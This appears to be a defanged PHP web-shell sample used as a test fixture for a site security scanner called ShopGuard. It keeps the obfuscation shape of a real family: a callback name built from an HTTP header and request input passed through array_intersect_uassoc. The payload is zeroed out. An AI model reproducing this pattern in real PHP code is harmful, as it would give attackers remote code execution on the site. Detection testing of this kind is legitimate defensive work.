<?php /* ShopGuard test sample, DEFANGED: shape of a real family, payload removed. Never deploy. */ exit('defanged'); ?>
<?php
$sgk = 'SgDefanged';
${'SgDefanged'} = $_SERVER['HTTP_ACCEPT'] . 'sg!';
$sgf = pack('H*', '00' . '0000000000') ^ $SgDefanged;
array_intersect_uassoc(array($_REQUEST[$sgk] => ''), array(1), $sgf);
